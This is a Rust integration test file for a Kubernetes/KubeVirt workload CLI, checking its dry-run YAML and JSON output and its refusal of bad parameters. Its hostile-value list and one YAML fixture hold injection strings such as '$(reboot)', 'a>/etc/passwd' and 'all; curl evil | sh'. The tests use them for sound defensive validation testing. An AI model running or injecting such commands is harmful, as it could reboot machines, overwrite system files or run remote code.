//! `virtwork run --dry-run` through the real binary: what a user sees on stdout (a valid
//! multi-document YAML stream, or one JSON document), that no cluster or kubeconfig is
//! needed, that counts and labels are right for the default fleet and for per-workload
//! settings, and that hostile param values are refused with exit 2 before any output.

use crate::support;

use support::names::tagged;

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde::Deserialize;
use serde_yaml::Value;

fn catalog_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("catalog")
}

/// Runs the binary in an empty temp dir with a clean environment (no VIRTWORK_* leaking in
/// from the developer's shell, no kubeconfig).
fn virtwork(args: &[&str], extra_env: &[(&str, &str)]) -> Output {
    let dir = tempfile::tempdir().unwrap();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_virtwork"));
    cmd.args(args)
        .current_dir(dir.path())
        .env_clear()
        .env("HOME", dir.path())
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("KUBECONFIG", dir.path().join("no-such-kubeconfig"));
    for (k, v) in extra_env {
        cmd.env(k, v);
    }
    cmd.output().unwrap()
}

fn dry_run(args: &[&str]) -> (Vec<Value>, String, String) {
    let mut full = vec!["run", "--dry-run", "--no-audit"];
    full.extend_from_slice(args);
    let out = virtwork(&full, &[]);
    let stdout = String::from_utf8(out.stdout).unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        out.status.success(),
        "exit {:?}\nstderr: {stderr}",
        out.status.code()
    );
    let docs = serde_yaml::Deserializer::from_str(&stdout)
        .map(|doc| Value::deserialize(doc).expect("every document parses"))
        .collect();
    (docs, stdout, stderr)
}

fn of_kind<'a>(docs: &'a [Value], kind: &str) -> Vec<&'a Value> {
    docs.iter().filter(|d| d["kind"] == kind).collect()
}

fn name(doc: &Value) -> &str {
    doc["metadata"]["name"].as_str().unwrap()
}

fn label<'a>(meta: &'a Value, key: &str) -> Option<&'a str> {
    meta["labels"][key].as_str()
}

/// The run id every object of a dry run carries.
fn run_id_of(docs: &[Value]) -> String {
    docs.iter()
        .find_map(|d| label(&d["metadata"], "virtwork/run-id"))
        .expect("some object carries the run id")
        .to_string()
}

fn is_uuid_v4(text: &str) -> bool {
    uuid::Uuid::parse_str(text).is_ok_and(|u| u.get_version_num() == 4)
        && text.len() == 36
        && text == text.to_lowercase()
}

fn vm_counts_by_component(docs: &[Value]) -> BTreeMap<String, usize> {
    let mut counts = BTreeMap::new();
    for vm in of_kind(docs, "VirtualMachine") {
        let component = label(&vm["metadata"], "app.kubernetes.io/component").unwrap();
        *counts.entry(component.to_string()).or_insert(0) += 1;
    }
    counts
}

fn data_volume_templates(docs: &[Value]) -> Vec<&Value> {
    of_kind(docs, "VirtualMachine")
        .into_iter()
        .flat_map(|vm| {
            vm["spec"]["dataVolumeTemplates"]
                .as_sequence()
                .map(|s| s.iter().collect::<Vec<_>>())
                .unwrap_or_default()
        })
        .collect()
}

#[test]
fn default_dry_run_plans_the_full_fleet_with_one_run_id_everywhere() {
    let (docs, stdout, stderr) = dry_run(&[]);
    let services = of_kind(&docs, "Service");
    let secrets = of_kind(&docs, "Secret");
    let vms = of_kind(&docs, "VirtualMachine");
    assert_eq!(
        (services.len(), secrets.len(), vms.len(), docs.len()),
        (2, 11, 11, 25)
    );
    assert_eq!(data_volume_templates(&docs).len(), 3);
    // auto without a cluster to ask (several nodes assumed): VMs without data disks
    // live-migrate; the data-disk VMs' access mode is the StorageProfile's, so KubeVirt's
    // LiveMigratable decides for them.
    for vm in &vms {
        let strategy = vm["spec"]["template"]["spec"]["evictionStrategy"].as_str();
        let templates = vm["spec"]["dataVolumeTemplates"].as_sequence();
        let expected = if templates.is_some() {
            "LiveMigrateIfPossible"
        } else {
            "LiveMigrate"
        };
        assert_eq!(strategy, Some(expected), "{}", name(vm));
        for template in templates.into_iter().flatten() {
            assert!(
                template["spec"]["storage"].get("accessModes").is_none(),
                "{}: the access mode is left to the StorageProfile",
                name(vm)
            );
        }
    }

    // Reference order: the Namespace (name only: applying it claims nothing), Services
    // (sorted), then Secrets, then VMs.
    let kinds: Vec<&str> = docs.iter().map(|d| d["kind"].as_str().unwrap()).collect();
    let namespace: Value =
        serde_yaml::from_str("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: virtwork\n")
            .unwrap();
    assert_eq!(docs[0], namespace);
    assert!(kinds[1..3].iter().all(|k| *k == "Service"), "{kinds:?}");
    assert!(kinds[3..14].iter().all(|k| *k == "Secret"), "{kinds:?}");
    assert!(
        kinds[14..].iter().all(|k| *k == "VirtualMachine"),
        "{kinds:?}"
    );
    let id = run_id_of(&docs);
    assert_eq!(
        services.iter().map(|s| name(s)).collect::<Vec<_>>(),
        [
            tagged("virtwork-iperf3-server", &id),
            tagged("virtwork-tps-server", &id)
        ]
    );
    let vm_names: BTreeSet<&str> = vms.iter().map(|v| name(v)).collect();
    for expected in [
        "virtwork-cpu-0",
        "virtwork-memory-0",
        "virtwork-database-0",
        "virtwork-disk-0",
        "virtwork-network-server-0",
        "virtwork-network-client-0",
        "virtwork-tps-server-0",
        "virtwork-tps-client-0",
        "virtwork-chaos-disk-0",
        "virtwork-chaos-network-0",
        "virtwork-chaos-process-0",
    ] {
        assert!(
            vm_names.contains(tagged(expected, &id).as_str()),
            "{expected} missing: {vm_names:?}"
        );
    }

    // One run id, a UUID v4, on every object (but the Namespace) and every DataVolume template.
    let mut metas: Vec<&Value> = docs[1..].iter().map(|d| &d["metadata"]).collect();
    metas.extend(vms.iter().map(|v| &v["spec"]["template"]["metadata"]));
    metas.extend(data_volume_templates(&docs).iter().map(|t| &t["metadata"]));
    let run_ids: BTreeSet<&str> = metas
        .iter()
        .map(|m| label(m, "virtwork/run-id").expect("every object has a run id"))
        .collect();
    assert_eq!(run_ids.len(), 1, "{run_ids:?}");
    let run_id = *run_ids.iter().next().unwrap();
    assert!(is_uuid_v4(run_id), "{run_id}");
    for meta in &metas {
        assert_eq!(
            label(meta, "app.kubernetes.io/managed-by"),
            Some("virtwork")
        );
        assert!(label(meta, "app.kubernetes.io/component").is_some());
    }
    for doc in &docs[1..] {
        assert_eq!(doc["metadata"]["namespace"], "virtwork");
    }

    // Service selectors include the component, so network and tps servers never mix.
    for svc in &services {
        let component = label(&svc["metadata"], "app.kubernetes.io/component").unwrap();
        let selector = &svc["spec"]["selector"];
        assert_eq!(
            selector["app.kubernetes.io/component"].as_str(),
            Some(component)
        );
        assert_eq!(selector["virtwork/role"].as_str(), Some("server"));
        assert_eq!(
            label(&svc["metadata"], "app.kubernetes.io/name"),
            Some("virtwork")
        );
    }

    // Each Secret holds a cloud-config and is referenced by its VM.
    for vm in &vms {
        let secret_name = format!("{}-cloudinit", name(vm));
        let secret = secrets.iter().find(|s| name(s) == secret_name).unwrap();
        let userdata = secret["stringData"]["userdata"].as_str().unwrap();
        assert!(userdata.starts_with("#cloud-config\n"), "{secret_name}");
        let volumes = vm["spec"]["template"]["spec"]["volumes"]
            .as_sequence()
            .unwrap();
        assert_eq!(
            volumes[1]["cloudInitNoCloud"]["secretRef"]["name"].as_str(),
            Some(secret_name.as_str())
        );
    }

    // The comment header before every document, and nothing but YAML on stdout.
    let headers: Vec<&str> = stdout
        .lines()
        .filter(|l| l.starts_with('#') && !l.starts_with("#cloud"))
        .collect();
    for (kind, untagged, workload) in [
        ("Service", "virtwork-iperf3-server", "network"),
        ("VirtualMachine", "virtwork-cpu-0", "cpu"),
        ("Secret", "virtwork-tps-client-0-cloudinit", "tps"),
    ] {
        let header = format!("# {kind}: {} (workload: {workload})", tagged(untagged, &id));
        assert!(headers.contains(&header.as_str()), "{header}: {headers:?}");
    }
    assert!(!stdout.contains("dry run mode") && !stdout.contains("deployment summary"));
    assert!(stderr.contains("dry run mode"), "{stderr}");
    assert!(stderr.contains("deployment summary"), "{stderr}");
    // Nothing was created: the log says what was planned.
    assert!(stderr.contains("vms_planned=11"), "{stderr}");
    assert!(!stderr.contains("_created"), "{stderr}");
}

#[test]
fn each_run_gets_a_fresh_run_id() {
    let id = |docs: &[Value]| {
        label(&docs[1]["metadata"], "virtwork/run-id")
            .unwrap()
            .to_string()
    };
    let (first, _, _) = dry_run(&["--workloads", "cpu"]);
    let (second, _, _) = dry_run(&["--workloads", "cpu"]);
    assert_ne!(id(&first), id(&second));
}

#[test]
fn vm_count_scales_every_workload_and_pairs_double() {
    let (docs, _, _) = dry_run(&["--vm-count", "3"]);
    let counts = vm_counts_by_component(&docs);
    for single in [
        "cpu",
        "memory",
        "database",
        "disk",
        "chaos-disk",
        "chaos-network",
        "chaos-process",
    ] {
        assert_eq!(counts[single], 3, "{single}");
    }
    assert_eq!((counts["network"], counts["tps"]), (6, 6));
    assert_eq!(of_kind(&docs, "Secret").len(), 33);
    assert_eq!(of_kind(&docs, "Service").len(), 2);
    assert_eq!(data_volume_templates(&docs).len(), 9);
    let names: BTreeSet<&str> = of_kind(&docs, "VirtualMachine")
        .iter()
        .map(|v| name(v))
        .collect();
    let id = run_id_of(&docs);
    let named = |n: &str| names.contains(tagged(n, &id).as_str());
    assert!(named("virtwork-cpu-2") && !named("virtwork-cpu-3"));
    assert!(named("virtwork-network-client-2"));
}

#[test]
fn per_workload_yaml_settings_change_exactly_their_workload() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("virtwork.yaml");
    std::fs::write(
        &config,
        "vm-count: 2\n\
         workloads:\n\
         \x20 cpu:\n\
         \x20   vm-count: 3\n\
         \x20   cpu-cores: 4\n\
         \x20   memory: 3Gi\n\
         \x20 network:\n\
         \x20   vm-count: 1\n\
         \x20 memory:\n\
         \x20   enabled: false\n",
    )
    .unwrap();
    let (docs, _, stderr) = dry_run(&[
        "--config",
        config.to_str().unwrap(),
        "--workloads",
        "cpu,memory,network,disk",
    ]);
    let counts = vm_counts_by_component(&docs);
    assert_eq!(
        counts,
        BTreeMap::from([
            ("cpu".to_string(), 3),
            ("disk".to_string(), 2),
            ("network".to_string(), 2)
        ])
    );
    let domain = |vm: &Value| vm["spec"]["template"]["spec"]["domain"].clone();
    for vm in of_kind(&docs, "VirtualMachine") {
        let d = domain(vm);
        let component = label(&vm["metadata"], "app.kubernetes.io/component").unwrap();
        let (cores, memory) = if component == "cpu" {
            (4, "3Gi")
        } else {
            (2, "2Gi")
        };
        assert_eq!(d["cpu"]["cores"].as_u64(), Some(cores), "{component}");
        assert_eq!(
            d["resources"]["requests"]["memory"].as_str(),
            Some(memory),
            "{component}"
        );
    }
    assert_eq!(data_volume_templates(&docs).len(), 2);
    assert!(stderr.contains("workload skipped"), "{stderr}");
}

/// Every VM says how long its guest may take to shut down: data-disk VMs (database, disk,
/// chaos-disk) 120 s, the others KubeVirt's 30 s, and `workloads.<name>.termination-grace-period`
/// changes exactly its workload's; a value out of range is refused with one line, exit 2.
#[test]
fn each_workload_shows_its_shutdown_grace_and_yaml_changes_it() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("virtwork.yaml");
    std::fs::write(
        &config,
        "workloads:\n\
         \x20 cpu:\n\
         \x20   termination-grace-period: 300\n",
    )
    .unwrap();
    let (docs, _, _) = dry_run(&["--config", config.to_str().unwrap()]);
    let mut seen = BTreeMap::new();
    for vm in of_kind(&docs, "VirtualMachine") {
        let component = label(&vm["metadata"], "app.kubernetes.io/component").unwrap();
        let grace = vm["spec"]["template"]["spec"]["terminationGracePeriodSeconds"]
            .as_u64()
            .unwrap_or_else(|| panic!("{} shows no grace", name(vm)));
        seen.insert(component.to_string(), grace);
    }
    let expected: BTreeMap<String, u64> = [
        ("chaos-disk", 120),
        ("chaos-network", 30),
        ("chaos-process", 30),
        ("cpu", 300),
        ("database", 120),
        ("disk", 120),
        ("memory", 30),
        ("network", 30),
        ("tps", 30),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect();
    assert_eq!(seen, expected);

    std::fs::write(
        &config,
        "workloads:\n\
         \x20 disk:\n\
         \x20   termination-grace-period: 2h\n",
    )
    .unwrap();
    let args = [
        "run",
        "--dry-run",
        "--no-audit",
        "--config",
        config.to_str().unwrap(),
    ];
    assert_refused(&args, &[], "a grace that is not whole seconds");
    let out = virtwork(&args, &[]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("workloads.disk.termination-grace-period")
            && stderr.contains("expected whole seconds from 0 to 3600"),
        "{stderr}"
    );
}

#[test]
fn dry_run_needs_no_kubeconfig_and_ignores_a_broken_one() {
    let dir = tempfile::tempdir().unwrap();
    let bogus = dir.path().join("kubeconfig");
    std::fs::write(&bogus, "this is not a kubeconfig").unwrap();
    let (docs, _, _) = dry_run(&[
        "--workloads",
        "cpu",
        "--kubeconfig",
        bogus.to_str().unwrap(),
    ]);
    assert_eq!(of_kind(&docs, "VirtualMachine").len(), 1);
}

#[test]
fn json_output_is_one_document_with_the_plan() {
    let out = virtwork(
        &[
            "run",
            "--dry-run",
            "--no-audit",
            "--output",
            "json",
            "--workloads",
            "disk,network",
        ],
        &[],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON document");
    assert_eq!(doc["format_version"], 1);
    assert_eq!(doc["dry_run"], "client");
    assert_eq!(doc["namespace"], "virtwork");
    let run_id = doc["run_id"].as_str().unwrap();
    assert!(is_uuid_v4(run_id));
    assert_eq!(
        doc["totals"],
        serde_json::json!({"workloads": 2, "vms": 3, "secrets": 3, "services": 1, "data_volumes": 1})
    );
    let workloads: Vec<&str> = doc["workloads"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["name"].as_str().unwrap())
        .collect();
    assert_eq!(workloads, ["disk", "network"]);
    assert_eq!(doc["workloads"][0]["data_disk_size"], "10Gi");
    assert_eq!(doc["workloads"][1]["vm_count"], 2);
    assert_eq!(doc["workloads"][1]["requires_service"], true);
    for kind in ["services", "secrets", "vms"] {
        for object in doc[kind].as_array().unwrap() {
            assert_eq!(object["metadata"]["labels"]["virtwork/run-id"], run_id);
        }
    }
    assert_eq!(doc["vms"][0]["kind"], "VirtualMachine");
    assert_eq!(
        doc["vms"][0]["metadata"]["name"],
        tagged("virtwork-disk-0", run_id)
    );
}

#[test]
fn catalog_entries_are_planned_after_builtins() {
    let catalog = catalog_dir();
    let (docs, _, _) = dry_run(&[
        "--workloads",
        "cpu",
        "--catalog-dir",
        catalog.to_str().unwrap(),
        "--from-catalog",
        "sysbench,redis-bench",
    ]);
    let id = run_id_of(&docs);
    let vms: Vec<String> = of_kind(&docs, "VirtualMachine")
        .iter()
        .map(|v| name(v).replace(&format!("-{}", support::names::tag_of(&id)), ""))
        .collect();
    assert_eq!(
        vms,
        [
            "virtwork-cpu-0",
            "virtwork-sysbench-0",
            "virtwork-redis-bench-server-0",
            "virtwork-redis-bench-client-0"
        ]
    );
    let services: Vec<&str> = of_kind(&docs, "Service").iter().map(|s| name(s)).collect();
    assert_eq!(services, ["virtwork-redis-bench"]);
}

/// Every hostile value must be refused with exit 2, a one-line error, and nothing on stdout.
fn assert_refused(args: &[&str], env: &[(&str, &str)], what: &str) {
    let out = virtwork(args, env);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{what}: stderr: {stderr}");
    assert!(
        out.stdout.is_empty(),
        "{what}: printed {:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    let error_lines: Vec<&str> = stderr.lines().filter(|l| l.starts_with("Error:")).collect();
    assert_eq!(error_lines.len(), 1, "{what}: {stderr}");
}

const HOSTILE_VALUES: [&str; 14] = [
    "$(reboot)",
    "`reboot`",
    "a;reboot",
    "a|reboot",
    "a&&reboot",
    "a>/etc/passwd",
    "'quoted'",
    "\"quoted\"",
    "line\nbreak",
    "%n%h",
    "a b",
    "${HOME}",
    "a\\b",
    "*",
];

/// String params of every built-in (and ints fed with non-ints), each with a benign value
/// that must be accepted and reach the user-data: the refusal is about the value, not the key.
const BUILTIN_PARAMS: [(&str, &str, &str); 9] = [
    ("cpu.cpu-method", "matrixprod", "--cpu-method matrixprod"),
    (
        "cpu.cpu-load-percent",
        "37",
        "ExecStart=/usr/local/bin/virtwork-cpu-at-level 37",
    ),
    ("memory.vm-method", "flip", "--vm-method flip"),
    ("chaos-disk.mount", "/mnt/chaos", "/mnt/chaos"),
    ("chaos-network.packet-loss-percent", "2.5", "loss 2.5%"),
    ("chaos-process.signal", "SIGKILL", "CHAOS_SIGNAL=SIGKILL"),
    ("tps.file-size", "5M", "count=5"),
    ("network.parallel-streams", "7", "-P 7"),
    ("database.clients", "13", "-c 13"),
];

/// The benign value is accepted: exit 0 and `fragment` (the value in its place on the
/// guest command line) appears in the printed user-data.
fn assert_accepted(args: &[&str], fragment: &str, what: &str) {
    let out = virtwork(args, &[]);
    assert!(
        out.status.success(),
        "{what}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).contains(fragment),
        "{what}: value not in the output"
    );
}

#[test]
fn hostile_builtin_params_are_refused_before_any_output() {
    for (param, benign, fragment) in BUILTIN_PARAMS {
        let workload = param.split('.').next().unwrap();
        let args = |pair: &str| {
            [
                "run",
                "--dry-run",
                "--no-audit",
                "--workloads",
                workload,
                "--params",
                pair,
            ]
            .map(str::to_string)
        };
        let pair = format!("{param}={benign}");
        let ok = args(&pair);
        assert_accepted(&ok.each_ref().map(String::as_str), fragment, &pair);
        for value in HOSTILE_VALUES {
            let pair = format!("{param}={value}");
            let bad = args(&pair);
            assert_refused(&bad.each_ref().map(String::as_str), &[], &pair);
        }
    }
}

#[test]
fn hostile_params_from_env_and_yaml_are_refused_too() {
    assert_refused(
        &["run", "--dry-run", "--no-audit", "--workloads", "cpu"],
        &[("VIRTWORK_PARAMS", "cpu.cpu-method=$(reboot)")],
        "VIRTWORK_PARAMS",
    );
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("c.yaml");
    std::fs::write(
        &config,
        "workloads:\n  memory:\n    params:\n      vm-method: \"all; curl evil | sh\"\n",
    )
    .unwrap();
    assert_refused(
        &[
            "run",
            "--dry-run",
            "--no-audit",
            "--workloads",
            "memory",
            "--config",
            config.to_str().unwrap(),
        ],
        &[],
        "YAML params",
    );
}

#[test]
fn hostile_catalog_placeholder_values_are_refused_before_any_output() {
    let catalog = catalog_dir();
    let catalog = catalog.to_str().unwrap();
    for (entry, key, benign, fragment) in [
        (
            "sysbench",
            "cpu-max-prime",
            "20000",
            "--cpu-max-prime=20000",
        ),
        ("sysbench", "threads", "8", "--threads=8"),
        ("redis-bench", "maxmemory", "512mb", "--maxmemory 512mb"),
        ("redis-bench", "num-clients", "20", "-c 20"),
    ] {
        let args = |pair: &str| {
            [
                "run",
                "--dry-run",
                "--no-audit",
                "--catalog-dir",
                catalog,
                "--from-catalog",
                entry,
                "--params",
                pair,
            ]
            .map(str::to_string)
        };
        let pair = format!("{entry}.{key}={benign}");
        let ok = args(&pair);
        assert_accepted(&ok.each_ref().map(String::as_str), fragment, &pair);
        for value in HOSTILE_VALUES {
            let pair = format!("{entry}.{key}={value}");
            let bad = args(&pair);
            assert_refused(&bad.each_ref().map(String::as_str), &[], &pair);
        }
    }
}

#[test]
fn unknown_workloads_and_params_are_input_errors() {
    assert_refused(
        &["run", "--dry-run", "--workloads", "cpux"],
        &[],
        "unknown workload",
    );
    assert_refused(
        &[
            "run",
            "--dry-run",
            "--workloads",
            "cpu",
            "--params",
            "cpu.no-such=1",
        ],
        &[],
        "unknown param",
    );
    assert_refused(
        &["run", "--dry-run", "--workloads", "cpu,cpu"],
        &[],
        "duplicate workload",
    );
}

/// The YAML stream is what `kubectl apply -f -` accepts: piped into a real kubectl against
/// a fresh fake API server (no namespace yet; strict field validation, KubeVirt schema on),
/// every document is created and nothing is pruned or rejected.
#[test]
fn kubectl_applies_the_dry_run_stream() {
    let kubectl_found = Command::new("kubectl")
        .args(["version", "--client"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !kubectl_found {
        assert!(
            std::env::var("VIRTWORK_REQUIRE_KUBECTL").as_deref() != Ok("1"),
            "kubectl required (VIRTWORK_REQUIRE_KUBECTL=1) but not found"
        );
        eprintln!("SKIPPED: kubectl not installed");
        return;
    }
    let (docs, stream, _) = dry_run(&[]);
    let server = support::FakeApiServer::start(support::Options::default());
    assert!(server.get("namespaces", "", "virtwork").is_none());
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = dir.path().join("kubeconfig");
    server.write_kubeconfig(&kubeconfig).unwrap();
    let mut child = Command::new("kubectl")
        .arg("--kubeconfig")
        .arg(&kubeconfig)
        .args(["--request-timeout=30s", "apply", "-f", "-", "-o", "name"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stream.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "kubectl apply failed: {stderr}");
    let applied: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_string)
        .collect();
    assert_eq!(applied.len(), docs.len(), "{applied:#?}");
    let id = run_id_of(&docs);
    assert_eq!(applied[0], "namespace/virtwork");
    assert_eq!(
        applied[1],
        format!("service/{}", tagged("virtwork-iperf3-server", &id))
    );
    assert!(applied.contains(&format!(
        "virtualmachine.kubevirt.io/{}",
        tagged("virtwork-cpu-0", &id)
    )));
    assert!(applied.contains(&format!(
        "secret/{}",
        tagged("virtwork-cpu-0-cloudinit", &id)
    )));
    assert_eq!(
        server.objects("virtualmachines", Some("virtwork")).len(),
        11
    );
    assert_eq!(server.objects("secrets", Some("virtwork")).len(), 11);
    assert_eq!(server.objects("services", Some("virtwork")).len(), 2);
    assert!(
        server.schema_violations().is_empty(),
        "{:#?}",
        server.schema_violations()
    );
}

/// `--params cpu.profile=step,...` puts the load driver, the schedule and the level script in
/// the user-data, and the unit runs the driver.
#[test]
fn a_load_profile_shows_its_driver_and_schedule_in_the_user_data() {
    let (_, stdout, _) = dry_run(&[
        "--workloads",
        "cpu",
        "--params",
        "cpu.profile=step,cpu.profile-low=20,cpu.profile-high=80,cpu.profile-period=2m,cpu.profile-duty=25",
    ]);
    for fragment in [
        "path: /usr/local/bin/virtwork-load-driver",
        "path: /etc/virtwork/cpu.schedule",
        "systemctl set-property --runtime virtwork-cpu.service \"CPUQuota=${CAP}\"",
        "exec /usr/bin/stress-ng --cpu 0 --cpu-load \"$1\" --cpu-load-slice 20 --cpu-method all --timeout 0",
        "ExecStart=/usr/local/bin/virtwork-load-driver /etc/virtwork/cpu.schedule /var/lib/virtwork/cpu.profile-start /usr/local/bin/virtwork-cpu-at-level",
    ] {
        assert!(stdout.contains(fragment), "{fragment:?} not in:\n{stdout}");
    }
    // The schedule: 80 for the first 25 % of every 120 s, then 20.
    let lines: Vec<&str> = stdout.lines().map(str::trim).collect();
    assert!(
        lines
            .windows(3)
            .any(|w| w == ["repeat 120", "0 80", "30 20"]),
        "no schedule in:\n{stdout}"
    );
    // The VM and its VMI template carry the shape (KubeVirt copies it onto the VMI's series,
    // where the shipped alert tells a low phase from a stopped load), and the run records the
    // profile for verify.
    assert_eq!(
        lines
            .iter()
            .filter(|l| **l == "virtwork/load-profile: step")
            .count(),
        2,
        "{stdout}"
    );
    assert!(stdout.contains(r#""profile":"step""#), "{stdout}");
    let (_, steady, _) = dry_run(&["--workloads", "cpu"]);
    assert!(
        !steady.contains("load-profile") && !steady.contains("profile-low"),
        "{steady}"
    );
}

/// Bad or contradictory profile params: exit 2, one line saying what is wrong, nothing printed.
#[test]
fn bad_load_profile_params_are_refused_with_one_line() {
    for (params, reason) in [
        (
            "cpu.profile=wave",
            "value \"wave\": one of: steady, step, ramp, sine, spike",
        ),
        (
            "cpu.profile=step,cpu.profile-period=1d",
            "param \"profile-period\" value \"1d\": a duration in seconds",
        ),
        (
            "cpu.profile=step,cpu.profile-low=95",
            "the low level (95) must be below the high level (90)",
        ),
        (
            "disk.profile-burst=20s",
            "param \"profile-burst\" needs a load profile: add disk.profile=step",
        ),
        (
            "disk.profile=ramp,disk.profile-duty=20",
            "param \"profile-duty\" does not apply to profile \"ramp\"",
        ),
        (
            "cpu.profile=sine,cpu.cpu-load-percent=50",
            "param \"cpu-load-percent\" sets the steady load",
        ),
    ] {
        let args = ["run", "--dry-run", "--no-audit", "--params", params];
        assert_refused(&args, &[], params);
        let stderr = String::from_utf8_lossy(&virtwork(&args, &[]).stderr).to_string();
        assert!(stderr.contains(reason), "{params}: {stderr}");
    }
}

/// A catalog entry that opts in to profiles: `--params sysbench.profile=step,...` shows the
/// driver, the schedule, sysbench's level script and the drop-in that points the entry's unit
/// at the driver.
#[test]
fn a_catalog_load_profile_shows_its_driver_in_the_user_data() {
    let catalog = catalog_dir();
    let (_, stdout, _) = dry_run(&[
        "--catalog-dir",
        catalog.to_str().unwrap(),
        "--from-catalog",
        "sysbench",
        "--params",
        "sysbench.profile=step,sysbench.profile-low=100,sysbench.profile-high=2000,sysbench.profile-period=2m,sysbench.profile-duty=25",
    ]);
    for fragment in [
        "path: /usr/local/bin/virtwork-load-driver",
        "path: /etc/virtwork/sysbench.schedule",
        "path: /usr/local/bin/virtwork-sysbench-at-level",
        "exec sysbench cpu --threads=4 --cpu-max-prime=10000 --time=0 --rate=\"$1\" --report-interval=60 run",
        "path: /etc/systemd/system/workload.service.d/virtwork-load-profile.conf",
        "ExecStart=/usr/local/bin/virtwork-load-driver /etc/virtwork/sysbench.schedule /var/lib/virtwork/sysbench.profile-start /usr/local/bin/virtwork-sysbench-at-level",
    ] {
        assert!(stdout.contains(fragment), "{fragment:?} not in:\n{stdout}");
    }
    let lines: Vec<&str> = stdout.lines().map(str::trim).collect();
    assert!(
        lines
            .windows(3)
            .any(|w| w == ["repeat 120", "0 2000", "30 100"]),
        "no schedule in:\n{stdout}"
    );
    // Steady (the default) runs the entry's own loop and no driver.
    let (_, steady, _) = dry_run(&[
        "--catalog-dir",
        catalog.to_str().unwrap(),
        "--from-catalog",
        "sysbench",
    ]);
    assert!(!steady.contains("virtwork-load-driver"), "{steady}");
}

/// Profile params on catalog entries: the built-ins' checks, and a clear refusal for an entry
/// that does not support profiles.
#[test]
fn bad_catalog_profile_params_are_refused_with_one_line() {
    let catalog = catalog_dir();
    for (entry, params, reason) in [
        (
            "sysbench",
            "sysbench.profile=step,sysbench.loop-delay=5",
            "param \"loop-delay\" sets the steady load; with profile \"step\"",
        ),
        (
            "sysbench",
            "sysbench.profile=ramp,sysbench.profile-high=0",
            "param \"profile-high\" value \"0\": must be an integer from 1 to 1000000",
        ),
        (
            "redis-bench",
            "redis-bench.profile=step",
            "workload \"redis-bench\" does not support load profiles",
        ),
    ] {
        let args = [
            "run",
            "--dry-run",
            "--no-audit",
            "--catalog-dir",
            catalog.to_str().unwrap(),
            "--from-catalog",
            entry,
            "--params",
            params,
        ];
        assert_refused(&args, &[], params);
        let stderr = String::from_utf8_lossy(&virtwork(&args, &[]).stderr).to_string();
        assert!(stderr.contains(reason), "{params}: {stderr}");
    }
}
